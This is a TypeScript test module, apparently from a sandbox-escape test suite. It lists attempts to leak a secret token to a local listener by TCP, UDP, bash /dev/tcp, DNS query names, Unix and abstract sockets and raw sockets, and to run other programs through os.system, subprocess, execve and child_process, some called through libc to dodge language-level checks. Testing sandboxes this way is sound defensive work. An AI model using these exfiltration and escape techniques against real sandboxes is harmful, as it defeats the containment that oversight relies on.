/**
 * The network: TCP, UDP, names, sockets of the machine by path and by abstract name; other programs that would reach
 * it.
 */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { type Attempt, arrives, saysSo } from '../attempt.ts';

const sends = (name: string, code: string, more: Partial<Attempt> = {}): Attempt => ({
  name,
  code,
  escaped: arrives,
  ...more,
});

/** Directly through libc, where no check of the language sees it. */
const RAW = `import struct
def stream(family, address):
    s = libc.socket(family, 1, 0)
    if libc.connect(s, address, len(address)) == 0: os.write(s, W['token'].encode())
def datagram(family, address, data=None):
    s = libc.socket(family, 2, 0); data = data or W['token'].encode()
    libc.sendto(s, data, len(data), 0, address, len(address))
def inet(port): return struct.pack('<H', 2) + struct.pack('>H', port) + bytes([127, 0, 0, 1]) + bytes(8)
def unix(path): return struct.pack('<H', 1) + path.encode() + (b'' if path[0] == '\\0' else b'\\0')
`;

const runs = (name: string, code: string, more: Partial<Attempt> = {}): Attempt => ({
  name: `runs another program without permission, by ${name}`,
  code: `f = W['work'] + '/ran-' + W['token']\n${code}`,
  allowed: ['fs', 'net'],
  escaped: ({ work, token }) => existsSync(join(work, `ran-${token}`)),
  ...more,
});

export const NETWORK: Attempt[] = [
  sends('connects by TCP', `${RAW}stream(2, inet(W['tcp']))`),
  sends('connects by TCP, with files and programs', `${RAW}stream(2, inet(W['tcp']))`, {
    allowed: ['fs', 'shell'],
  }),
  sends(
    'connects by TCP with socket',
    `import socket; socket.create_connection(('127.0.0.1', W['tcp'])).send(W['token'].encode())`,
  ),
  sends(
    'connects by TCP in JavaScript',
    `await new Promise((ok) => { const s = require('net').connect(W.tcp, '127.0.0.1', () => s.end(W.token, ok)).on('error', ok); });`,
    {
      language: 'javascript',
    },
  ),
  sends(
    'asks a web server in JavaScript',
    `await fetch('http://127.0.0.1:' + W.tcp + '/' + W.token, { signal: AbortSignal.timeout(10_000) }).catch(() => {});`,
    {
      language: 'javascript',
    },
  ),
  sends('connects by TCP in bash', `exec 9<>/dev/tcp/127.0.0.1/\${W[tcp]} && printf %s "\${W[token]}" >&9`, {
    language: 'bash',
  }),
  sends('sends by UDP', `${RAW}datagram(2, inet(W['udp']))`),
  sends(
    'sends by UDP with socket',
    `import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(W['token'].encode(), ('127.0.0.1', W['udp']))`,
  ),
  sends(
    'sends by UDP in JavaScript',
    `await new Promise((ok) => require('dgram').createSocket('udp4').on('error', ok).send(W.token, W.udp, '127.0.0.1', ok));`,
    {
      language: 'javascript',
    },
  ),
  sends('sends by UDP in bash', `printf %s "\${W[token]}" >/dev/udp/127.0.0.1/\${W[udp]}`, {
    language: 'bash',
  }),
  sends(
    'tells a name server a secret as a name',
    `${RAW}q = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + bytes([len(W['token'])]) + W['token'].encode() + b'\\4test\\0' + struct.pack('>2H', 1, 1)
datagram(2, inet(W['udp']), q)`,
  ),
  sends(
    'asks a name server in JavaScript',
    `const { Resolver } = require('dns').promises;
const r = new Resolver({ timeout: 100, tries: 1 }); r.setServers(['127.0.0.1:' + W.udp]);
await r.resolve4(W.token + '.test').catch(() => {});`,
    { language: 'javascript' },
  ),
  sends(
    'connects to a socket of its folder without permission',
    `${RAW}stream(1, unix(W['work'] + '/stream'))`,
  ),
  sends('connects to a socket above its folder', `${RAW}stream(1, unix(W['outside'] + '/stream'))`, {
    allowed: ['fs'],
  }),
  sends('connects to an abstract socket', `${RAW}stream(1, unix('\\0' + W['abstract'] + '-stream'))`, {
    allowed: ['fs', 'shell'],
  }),
  sends(
    'sends to a datagram socket above its folder',
    `${RAW}datagram(1, unix(W['outside'] + '/datagram'))`,
    {
      allowed: ['fs'],
    },
  ),
  sends(
    'sends to an abstract datagram socket',
    `${RAW}datagram(1, unix('\\0' + W['abstract'] + '-datagram'))`,
    {
      allowed: ['fs', 'shell'],
    },
  ),
  {
    name: 'opens a packet socket',
    code: `libc.socket(17, 3, 0x0300) >= 0 and won()`,
    privileged: true,
    allowed: ['net', 'fs', 'shell'],
    escaped: saysSo,
  },
  {
    name: 'opens a raw socket',
    code: `libc.socket(2, 3, 1) >= 0 and won()`,
    privileged: true,
    allowed: ['net', 'fs', 'shell'],
    escaped: saysSo,
  },
  runs('os.system', `os.system('touch ' + f)`),
  runs("libc's system", `libc.system(('touch ' + f).encode())`),
  runs('subprocess', `import subprocess; subprocess.run(['/usr/bin/touch', f])`),
  runs(
    'execve in a child',
    `if os.fork() == 0:
    libc.execl(b'/usr/bin/touch', b'touch', f.encode(), None); os._exit(1)
os.wait()`,
  ),
  runs(
    'a script that it wrote',
    `p = os.environ.get('TMPDIR', W['tmp']) + '/p-' + W['token']
d = libc.open(p.encode(), 0o101, 0o755); os.write(d, b'#!/bin/sh\\ntouch ' + f.encode() + b'\\n'); os.close(d); libc.system(p.encode())`,
  ),
  runs('child_process', '', {
    language: 'javascript',
    code: `require('child_process').execFileSync('/usr/bin/touch', [W.work + '/ran-' + W.token])`,
  }),
];
